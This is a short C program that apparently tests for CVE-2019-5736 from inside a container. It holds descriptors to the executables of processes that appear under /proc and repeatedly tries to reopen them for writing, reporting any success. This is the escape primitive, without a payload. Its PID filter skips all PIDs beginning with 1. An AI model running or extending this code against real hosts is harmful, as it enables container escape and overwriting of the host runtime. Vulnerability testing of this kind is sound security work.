/* SPDX-License-Identifier: Apache-2.0 */
/*
 * overwrite: CVE-2019-5736 from inside a container. Holds the executable of every process that
 * appears, and tries to open it for writing through the descriptor, again and again, also when that
 * process has long ended. Prints "written" and its name when one could be written to.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

enum { HELD = 64 };

static int held[HELD];
static char names[HELD][256];
static unsigned next;

static void hold(const char *pid)
{
	char path[300], name[256];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, name, sizeof(name) - 1);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	name[n > 0 ? n : 0] = '\0';
	/* our own and the container's are the container's to write */
	if (strstr(name, "overwrite") || strstr(name, "busybox")) {
		close(fd);
		return;
	}
	close(held[next % HELD]);
	held[next % HELD] = fd;
	memcpy(names[next % HELD], name, sizeof(name));
	next++;
	printf("held %s\n", name);
}

static void try(unsigned i)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	printf("written %s\n", names[i]);
	close(fd);
}

int main(void)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (unsigned i = 0; i < HELD; i++)
		held[i] = -1;
	puts("ready");
	for (;;) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc)))
			if (entry->d_name[0] >= '2' && entry->d_name[0] <= '9')
				hold(entry->d_name);
		if (proc)
			closedir(proc);
		for (unsigned i = 0; i < HELD; i++)
			if (held[i] >= 0)
				try(i);
	}
}
